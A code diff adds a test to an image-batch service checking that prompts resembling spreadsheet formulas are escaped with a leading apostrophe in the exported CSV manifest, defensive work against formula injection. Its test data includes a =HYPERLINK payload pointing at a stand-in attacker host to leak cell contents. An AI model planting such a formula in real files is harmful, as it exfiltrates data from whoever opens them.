@@ -326,6 +326,17 @@ def test_the_archive_holds_the_images_and_a_manifest(app, client, user):
             assert row["status"] == "canceled" and row["url"] == ""
 
 
+def test_the_manifest_shows_a_prompt_that_looks_like_a_formula_as_text(app, client, user):
+    """Opened in a spreadsheet, a prompt must not run (=HYPERLINK(...) sends data out)."""
+    prompts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1 dress", "red = bold"]
+    batch_id = submit(client, user, {"items": [{"prompt": p} for p in prompts]})["id"]
+    resp = client.get(f"{BATCHES}/{batch_id}/archive", headers=user.headers)
+    archive = zipfile.ZipFile(io.BytesIO(resp.get_data()))
+    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
+    shown = sorted(row["prompt"] for row in rows)
+    assert shown == sorted([f"'{p}" for p in prompts[:3]] + [prompts[3]])
+
+
 def _archive_missing_one(app, client, user, mid_stream: bool) -> zipfile.ZipFile:
     """The archive of a two-image batch whose second image's object is deleted
     before the request, or after the archive's first bytes are sent."""
